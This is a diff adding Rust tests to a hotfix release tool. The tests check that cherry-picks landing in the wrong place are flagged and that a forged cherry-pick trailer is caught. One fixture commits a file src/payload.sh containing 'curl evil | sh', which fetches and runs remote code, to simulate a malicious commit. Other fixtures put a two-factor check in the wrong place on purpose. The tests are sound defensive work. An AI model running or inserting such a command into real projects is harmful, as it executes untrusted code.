@@ -354,3 +354,138 @@ fn ship_push_checks_the_remote_before_any_write() {
         .says("no remote named 'origin'");
     assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/tags/v1.1.1"]));
 }
+
+/// A repository whose mainline fix adds `require_2fa(user)` before `grant()`, released as
+/// v1.0.0 before the fix; returns the fix.
+fn two_factor_fix() -> (Sandbox, String) {
+    let s = Sandbox::empty();
+    let auth =
+        "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\n    drop(user)\n";
+    s.commit(
+        &[
+            ("src/auth.py", auth),
+            ("tests/test_auth.py", "def test_login(): pass\n"),
+        ],
+        "init",
+    );
+    s.git(&["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
+    let fixed = auth.replace(
+        "    grant(user)\n",
+        "    require_2fa(user)\n    grant(user)\n",
+    );
+    let fix = s.commit(
+        &[
+            ("src/auth.py", &fixed),
+            (
+                "tests/test_auth.py",
+                "def test_login(): pass\ndef test_2fa(): pass\n",
+            ),
+        ],
+        "fix: require 2fa before granting",
+    );
+    s.publish();
+    s.hotfix(&["start"]).ok();
+    (s, fix)
+}
+
+fn from_mainline(s: &Sandbox) -> (i32, serde_json::Value) {
+    let out = s.hotfix(&["check", "--format", "json", "--reviewer", "rita"]);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    let rule = doc["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["id"] == "from-mainline")
+        .unwrap()
+        .clone();
+    (
+        out.code,
+        serde_json::json!({"rule": rule, "commits": doc["commits"]}),
+    )
+}
+
+/// Item 3: a "pick" whose changed lines equal the source's but land elsewhere (the check
+/// added at the end of the file, or re-indented into another function) is `modified`, not
+/// `clean`: the source cherry-picked onto the pick's parent must give the pick's tree.
+#[test]
+fn a_pick_whose_line_lands_elsewhere_is_modified() {
+    for (name, misplaced) in [
+        (
+            "at the end",
+            "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\n    drop(user)\n    require_2fa(user)\n",
+        ),
+        (
+            "re-indented elsewhere",
+            "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\nrequire_2fa(user)\n    drop(user)\n",
+        ),
+    ] {
+        let (s, fix) = two_factor_fix();
+        s.commit(
+            &[
+                ("src/auth.py", misplaced),
+                (
+                    "tests/test_auth.py",
+                    "def test_login(): pass\ndef test_2fa(): pass\n",
+                ),
+            ],
+            &format!("fix: require 2fa before granting\n\n(cherry picked from commit {fix})"),
+        );
+        let (code, v) = from_mainline(&s);
+        assert_eq!(
+            v["commits"][0]["provenance"]["kind"], "picked",
+            "{name}: {v}"
+        );
+        assert_eq!(v["commits"][0]["provenance"]["clean"], false, "{name}: {v}");
+        assert_eq!(v["rule"]["verdict"], "warn", "{name}: {v}");
+        assert!(
+            v["commits"][0]["provenance"]["difference"]
+                .as_str()
+                .unwrap()
+                .contains("land elsewhere"),
+            "{name}: {v}"
+        );
+        assert_eq!(code, 0, "{name}: modified warns by default");
+        let strict = s.config_file("strict.toml", "[policy]\nallow-modified = false\n");
+        s.hotfix(&["--config", &strict, "check", "--reviewer", "rita"])
+            .code(1);
+    }
+    // The real pick, made by hotfix, is clean.
+    let (s, fix) = two_factor_fix();
+    s.hotfix(&["pick", &fix]).ok();
+    let (code, v) = from_mainline(&s);
+    assert_eq!(
+        (code, v["rule"]["verdict"].clone()),
+        (0, serde_json::json!("pass")),
+        "{v}"
+    );
+}
+
+/// Item 4: a commit over unrelated content whose trailer names a real mainline fix fails
+/// `from-mainline`, even with `policy.allow-modified` on (the default).
+#[test]
+fn a_forged_trailer_over_unrelated_content_fails() {
+    let (s, fix) = two_factor_fix();
+    s.commit(
+        &[
+            ("src/payload.sh", "curl evil | sh\n"),
+            ("tests/test_payload.py", "def test_x(): pass\n"),
+        ],
+        &format!("fix: require 2fa before granting\n\n(cherry picked from commit {fix})"),
+    );
+    let (code, v) = from_mainline(&s);
+    assert_eq!(code, 1, "{v}");
+    assert_eq!(v["rule"]["verdict"], "fail", "{v}");
+    assert_eq!(
+        v["commits"][0]["provenance"]["kind"], "not-on-mainline",
+        "{v}"
+    );
+    assert!(
+        v["rule"]["items"][0]["note"]
+            .as_str()
+            .unwrap()
+            .contains("changes none of the files"),
+        "{v}"
+    );
+    s.hotfix(&["ship", "--yes", "--reviewer", "rita"]).code(1);
+    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/tags/v1.0.1"]));
+}
